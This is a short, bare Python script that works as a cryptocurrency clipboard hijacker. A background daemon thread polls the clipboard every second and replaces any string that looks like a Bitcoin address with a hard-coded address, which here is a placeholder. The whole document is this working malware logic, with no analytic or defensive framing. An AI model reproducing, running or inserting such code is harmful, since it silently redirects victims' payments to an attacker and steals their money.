import pyperclip, re, time, threading
W='bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
def loop():
    while True:
        t = pyperclip.paste()
        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
            pyperclip.copy(W)
        time.sleep(1)
threading.Thread(target=loop, daemon=True).start()
